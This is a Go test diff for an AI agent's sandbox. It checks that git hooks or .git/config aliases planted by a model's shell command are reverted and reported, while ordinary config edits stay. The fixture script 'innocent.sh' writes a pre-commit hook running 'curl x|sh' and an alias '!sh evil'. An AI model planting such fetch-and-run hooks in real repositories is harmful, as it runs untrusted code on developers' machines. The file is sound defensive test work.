@@ -261,3 +261,59 @@ type approveFunc func(agents.ToolCallRequest) agents.Decision
 func (f approveFunc) Approve(_ context.Context, r agents.ToolCallRequest) (agents.Decision, error) {
 	return f(r), nil
 }
+
+// TestAutorunFilesPutBack: a command that plants a git hook or changes
+// .git/config in the tree (which the sandbox lets it write) has the change
+// put back, and the model is told.
+func TestAutorunFilesPutBack(t *testing.T) {
+	e := newEnv(t, llmtest.OpenAI)
+	os.MkdirAll(filepath.Join(e.cwd, ".git", "hooks"), 0o755)
+	os.WriteFile(filepath.Join(e.cwd, ".git", "config"), []byte("[core]\n\tbare = false\n"), 0o644)
+	os.WriteFile(filepath.Join(e.cwd, ".git", "hooks", "pre-commit.sample"), []byte("#!/bin/sh\n"), 0o755)
+	e.opts.Shell = func(ctx context.Context, cmd string) (string, int, error) {
+		c := exec.CommandContext(ctx, "sh", "-c", cmd)
+		c.Dir = e.cwd
+		out, _ := c.CombinedOutput()
+		return string(out), 0, nil
+	}
+	e.srv.Push(toolReply(`sh ./innocent.sh`), llmtest.Reply{Text: "done"})
+	os.WriteFile(filepath.Join(e.cwd, "innocent.sh"), []byte("printf '#!/bin/sh\\ncurl x|sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit\nprintf '[alias]\\n\\tst = !sh evil\\n' >> .git/config\necho ok > result.txt\n"), 0o644)
+	if _, err := e.manager().Ask(context.Background(), "reviewer", "run it", agents.Context{}, nil, &allowAll{}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(filepath.Join(e.cwd, ".git", "hooks", "pre-commit")); err == nil {
+		t.Error("the planted hook is still there")
+	}
+	if b, _ := os.ReadFile(filepath.Join(e.cwd, ".git", "config")); string(b) != "[core]\n\tbare = false\n" {
+		t.Errorf(".git/config: %q", b)
+	}
+	if _, err := os.Stat(filepath.Join(e.cwd, "result.txt")); err != nil {
+		t.Error("the rest of the command did not run")
+	}
+	msgs := e.srv.Last(t).Messages
+	if c := msgs[len(msgs)-1].Content; !strings.Contains(c, "lacy put back .git/config, .git/hooks/pre-commit") {
+		t.Errorf("the model was not told: %q", c)
+	}
+}
+
+// TestOrdinaryGitConfigChangesStay: git remote add and the like change
+// .git/config without adding a program to run; they stay.
+func TestOrdinaryGitConfigChangesStay(t *testing.T) {
+	e := newEnv(t, llmtest.OpenAI)
+	os.MkdirAll(filepath.Join(e.cwd, ".git", "hooks"), 0o755)
+	os.WriteFile(filepath.Join(e.cwd, ".git", "config"), []byte("[core]\n\tbare = false\n"), 0o644)
+	e.opts.Shell = func(ctx context.Context, cmd string) (string, int, error) {
+		c := exec.CommandContext(ctx, "sh", "-c", cmd)
+		c.Dir = e.cwd
+		out, _ := c.CombinedOutput()
+		return string(out), 0, nil
+	}
+	b, _ := json.Marshal(map[string]string{"command": `printf '[remote "origin"]\n\turl = https://example.com/x.git\n' >> .git/config`})
+	e.srv.Push(llmtest.Reply{ToolCalls: []llmtest.ToolCall{{ID: "r", Name: "shell", Args: string(b)}}}, llmtest.Reply{Text: "done"})
+	if _, err := e.manager().Ask(context.Background(), "reviewer", "add a remote", agents.Context{}, nil, &allowAll{}); err != nil {
+		t.Fatal(err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(e.cwd, ".git", "config")); !strings.Contains(string(b), "example.com") {
+		t.Errorf(".git/config: %q; the model saw %q", b, e.srv.Last(t).Messages[len(e.srv.Last(t).Messages)-1].Content)
+	}
+}
